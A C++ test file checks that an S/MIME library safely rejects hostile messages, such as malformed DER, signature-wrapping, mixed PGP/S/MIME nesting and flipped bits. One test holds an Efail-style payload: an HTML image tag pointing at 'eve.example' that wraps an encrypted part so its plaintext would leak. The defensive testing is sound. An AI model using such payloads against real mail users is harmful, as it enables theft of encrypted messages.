// What strangers may send as S/MIME: there is a verdict, and never a wrong one.
#include <gmock/gmock.h>

#include "sim/mime/base64.h"
#include "sim/seal/cipher/cms.h"
#include "sim/seal/pgp_mime.h"
#include "sim/seal/smime/der.h"
#include "sim/seal/smime/mime.h"
#include "tests/support/smime_people.h"

namespace {

using namespace testing_smime;
using namespace std::string_literals;
using openpgp::Sealing;
using seal::Signature;
using ::testing::HasSubstr;
using ::testing::Not;

constexpr const char* kFrom = "From: forouzan@deanza.edu\r\n";

// An element of DER.
std::string element(char tag, const std::string& inside) {
  std::string length;
  for (std::size_t rest = inside.size(); rest != 0; rest >>= 8U) {
    length.insert(length.begin(), static_cast<char>(rest & 255U));
  }
  if (inside.size() < 128) return std::string{tag} + static_cast<char>(inside.size()) + inside;
  return std::string{tag} + static_cast<char>(0x80U | length.size()) + length + inside;
}

std::string packed(const std::string& der) {
  return smime::write_sealed(kFrom, der);
}

seal::Verdict opened(const std::string& message) {
  return seal::open_message(message, fegan(), kNow);
}

TEST(SealSmimeHostile, ElementsAreBounded) {
  std::string deep = element(0x04, "x");
  for (int i = 0; i < 1000; ++i) deep = element(0x30, deep);
  EXPECT_FALSE(smime::read_elements(deep));
  std::string many;
  for (int i = 0; i < 30'000; ++i) many += element(0x02, "1");
  EXPECT_FALSE(smime::read_elements(element(0x30, many)));
  const std::vector<std::string> bad = {
      "",
      "\x30"s,
      "\x30\x05\x02\x01"s,              // Longer than what there is.
      "\x30\x85\xff\xff\xff\xff\xff"s,  // More than 4 GiB.
      "\x30\x84\xff\xff\xff\xff"s,
      "\x04\x80\x00\x00"s,      // No length, and no elements.
      "\x30\x80\x02\x01\x01"s,  // Its end is missing.
      "\x3f\x81\x01\x00"s,      // A tag of several octets.
      "\x30\x00\x00"s,          // Something behind it.
  };
  for (std::size_t i = 0; i < bad.size(); ++i) {
    EXPECT_FALSE(smime::read_elements(bad[i])) << i;
    EXPECT_TRUE(opened(packed(bad[i])).is_broken) << i;
  }
  EXPECT_TRUE(smime::read_elements("\x30\x80\x02\x01\x01\x00\x00"s));
  EXPECT_TRUE(opened(packed(deep)).is_broken);
}

TEST(SealSmimeHostile, TooManyReceiversAreRefused) {
  const std::string receiver = element(0x30, element(0x02, "\x01") + element(0x30, ""));
  std::string receivers;
  for (int i = 0; i < 5000; ++i) receivers += receiver;
  const std::string data = element(0x30, element(0x02, "\x01") + element(0x31, receivers) +
                                             element(0x30, element(0x06, "\x01")));
  const std::string enveloped =
      element(0x30, element(0x06, "\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03"s) +
                        element(static_cast<char>(0xa0), data));
  const seal::Verdict verdict = opened(packed(enveloped));
  EXPECT_TRUE(verdict.is_broken);
  EXPECT_THAT(verdict.why, HasSubstr("too many"));
}

TEST(SealSmimeHostile, OtherContentsOfCmsAreNotOpened) {
  const std::string compressed =
      element(0x30, element(0x06, "\x2a\x86\x48\x86\xf7\x0d\x01\x09\x10\x01\x09"s) +
                        element(static_cast<char>(0xa0), element(0x30, "")));
  EXPECT_TRUE(opened(packed(compressed)).is_broken);
  // What is sealed where a signature should stand, and the other way about.
  const seal::Sealing sealing = sealed(false, true);
  EXPECT_TRUE(opened(smime::write_signed(kFrom, sealing.entity, sealing.packet)).is_broken);
  EXPECT_TRUE(opened(packed(sealed(true, false).signature)).is_broken)
      << "a signature of a text that is not there";
}

TEST(SealSmimeHostile, WhatStandsBesideASignedPartIsNotVerified) {
  const std::string good = sealed(true, false).message;
  const std::string inner = good.substr(good.find("Content-Type"));
  const std::string wrapped =
      std::string{kFrom} +
      "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=outer\r\n\r\n--outer\r\n\r\n"
      "Pay Eve.\r\n--outer\r\n" +
      inner + "--outer--\r\n";
  const seal::Verdict verdict = opened(wrapped);
  EXPECT_TRUE(verdict.is_partly);
  EXPECT_EQ(verdict.signature, Signature::None);
  std::string third = good;
  const std::string boundary = good.substr(good.find("=_"), 18);
  third.insert(third.rfind("--" + boundary + "--"), "--" + boundary + "\r\n\r\nPay Eve.\r\n");
  EXPECT_TRUE(opened(third).is_broken);
}

// Efail: what is sealed, in a part among others, so that it ends up in an address of a picture.
TEST(SealSmimeHostile, ASealedPartAmongOthersIsNotOpened) {
  const std::string sealed_part = sealed(true, true).message;
  const std::string wrapped =
      std::string{kFrom} +
      "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=outer\r\n\r\n--outer\r\n"
      "Content-Type: text/html\r\n\r\n<img src=\"http://eve.example/\r\n--outer\r\n" +
      sealed_part.substr(sealed_part.find("Content-Type")) +
      "--outer\r\nContent-Type: text/html\r\n\r\n\">\r\n--outer--\r\n";
  const seal::Verdict verdict = opened(wrapped);
  EXPECT_TRUE(verdict.is_partly);
  EXPECT_EQ(verdict.sealing, Sealing::None);
  EXPECT_THAT(verdict.shown, Not(HasSubstr("xylophone")));
}

TEST(SealSmimeHostile, ASignatureOfAnotherTextDoesNotFit) {
  const seal::Sealing sealing = sealed(true, false);
  const std::string other = "Content-Type: text/plain\r\n\r\nPay Eve.\r\n";
  EXPECT_EQ(opened(smime::write_signed(kFrom, other, sealing.signature)).signature,
            Signature::Changed);
  EXPECT_EQ(opened(smime::write_signed(kFrom, sealing.entity, sealing.signature)).signature,
            Signature::BySender);
}

TEST(SealSmimeHostile, AnotherFromInTheSealedTextStaysOut) {
  const std::string entity = "From: boss@example.net\r\nContent-Type: text/plain\r\n\r\nx\r\n";
  const std::vector<std::string> for_fegan = {holder(fegan())->certificate.der};
  const auto made = cipher::cms_encrypt(entity, for_fegan, "luck");
  ASSERT_TRUE(made);
  const seal::Verdict verdict = opened(packed(made->octets));
  EXPECT_EQ(verdict.sealing, Sealing::Opened);
  EXPECT_THAT(verdict.shown, Not(HasSubstr("boss")));
}

TEST(SealSmimeHostile, SealedTwiceAndMixedWithPgpIsRefused) {
  const std::vector<std::string> for_fegan = {holder(fegan())->certificate.der};
  const std::string once = sealed(false, true).message;
  const auto twice = cipher::cms_encrypt(once.substr(once.find("Content-Type")), for_fegan, "luck");
  EXPECT_TRUE(opened(packed(twice->octets)).is_broken);
  const std::string pgp = seal::write_sealed("", "-----BEGIN PGP MESSAGE-----\r\n");
  const auto mixed = cipher::cms_encrypt(pgp.substr(pgp.find("Content-Type")), for_fegan, "luck");
  const seal::Verdict verdict = opened(packed(mixed->octets));
  EXPECT_TRUE(verdict.is_broken);
  EXPECT_THAT(verdict.why, HasSubstr("PGP and S/MIME"));
}

TEST(SealSmimeHostile, ACertificateThatNamesAnotherAuthorityIsNotTrusted) {
  // The same names, another authority's key: one octet of the root is another.
  const auto root = cipher::read_pem(file("authority"));
  std::string der = root.front().octets;
  der[der.size() - 300] = static_cast<char>(der[der.size() - 300] ^ 1);
  seal::KeyRing ring;
  ring.add("-----BEGIN CERTIFICATE-----\n" + mime::base64_encode(der, 64) +
           "\n-----END CERTIFICATE-----\n");
  EXPECT_NE(seal::open_message(sealed(true, false).message, ring, kNow).signature,
            Signature::BySender);
}

// Each octet of a sealed message made another: a verdict, and never the sender's signature.
TEST(SealSmimeHostile, EachFlippedBitOfWhatIsSignedAndSealedIsSafe) {
  const seal::Sealing sealing = sealed(true, true);
  for (std::size_t at = 0; at < sealing.packet.size(); at += 7) {
    std::string packet = sealing.packet;
    packet[at] = static_cast<char>(packet[at] ^ (1 << at % 8));
    const seal::Verdict verdict = opened(packed(packet));
    EXPECT_FALSE(seal::headline(verdict).empty());
    const bool good = verdict.signature == Signature::BySender && !verdict.is_broken;
    EXPECT_TRUE(!good || verdict.shown.find("xylophone") != std::string::npos) << at;
  }
}

}  // namespace
